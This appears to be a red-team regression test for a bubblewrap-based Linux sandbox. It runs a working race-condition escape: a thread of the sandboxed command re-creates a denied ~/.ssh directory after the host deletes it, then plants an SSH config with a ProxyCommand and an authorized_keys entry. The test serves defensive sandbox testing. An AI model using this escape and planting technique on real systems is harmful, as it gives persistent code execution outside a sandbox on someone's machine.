#!/bin/bash
# Escape class H1 (linux-bwrap), red team on ce50c65: 0959 with a
# directory instead of a link. The host removes a denied directory in a
# write root (allowWrite "~", denyRead "~/.ssh"; `rm -rf ~/.ssh`). mkdir
# is not refused at the free name (reported, performed); a thread of the
# command with a working directory of its own (unshare(CLONE_FS)) spins on
# mkdir(~/.ssh) + chdir(~/.ssh) and gets in before the watcher's cover.
# held_below looks only at the leader's cwd (0961), so the run goes on; the
# thread writes ~/.ssh/config (a ProxyCommand) and authorized_keys into
# the directory on the host, where they stay after the run: the host's
# next ssh runs the command's ProxyCommand outside the sandbox.
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1
S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":[".","~"],"denyWrite":[]}')

cat > "$WORK/probe.py" <<'PYEOF'
import ctypes, os, sys, threading, time
p = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
ssh = os.path.join(os.environ["HOME"], ".ssh")
res = open(p + "/res", "a")
def holder():
    if libc.unshare(0x200) != 0:  # CLONE_FS
        res.write("unshare-failed\n"); return
    open(p + "/ready", "w").close()
    inside = False
    end = time.time() + 10
    while not inside and time.time() < end:
        try:
            os.mkdir(ssh)
        except OSError:
            pass
        try:
            os.chdir(ssh)
            inside = True
        except OSError:
            pass
    if not inside:
        res.write("not-inside\n"); return
    res.write("inside\n")
    time.sleep(1)  # the watcher's cover is on ~/.ssh by now
    try:
        os.stat(ssh + "/config")
    except OSError:
        res.write("full-path-covered\n")
    for name, text in (("config", "Host *\n  ProxyCommand sh -c 'touch /tmp/pwned-by-sandbox'\n"),
                       ("authorized_keys", "ssh-ed25519 AAAA planted-by-the-command\n")):
        try:
            fd = os.open(name, os.O_WRONLY | os.O_CREAT, 0o600)
            os.write(fd, text.encode())
            os.close(fd)
            res.write("planted %s\n" % name)
        except OSError as e:
            res.write("refused %s %s\n" % (name, e))
t = threading.Thread(target=holder)
t.start()
t.join()
res.write("done\n")
PYEOF

rm -f "$P/ready" "$P/res"
srt__bg -s "$S" -c "$PY $WORK/probe.py $P"
pid=$!
wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
sleep 0.3
rm -rf "$HOME/.ssh" # the host
end_bg "$pid" 150
diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
diag "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-500)"
diag "host ~/.ssh after the run: $(ls -la "$HOME/.ssh" 2>&1 | tr '\n' ' ')"
attempt H1 "command makes the removed denied ~/.ssh and stays in it: srt stopped the run or nothing was planted" \
	sh -c "grep -q 'srt covered it again' '$WORK/bg.out' || ! grep -q planted '$P/res'"
attempt H1 "command makes the removed denied ~/.ssh: no ~/.ssh/config of its making on the host" \
	test ! -e "$HOME/.ssh/config"
attempt H1 "command makes the removed denied ~/.ssh: no ~/.ssh/authorized_keys of its making on the host" \
	test ! -e "$HOME/.ssh/authorized_keys"
echo "1..$_tap_n"
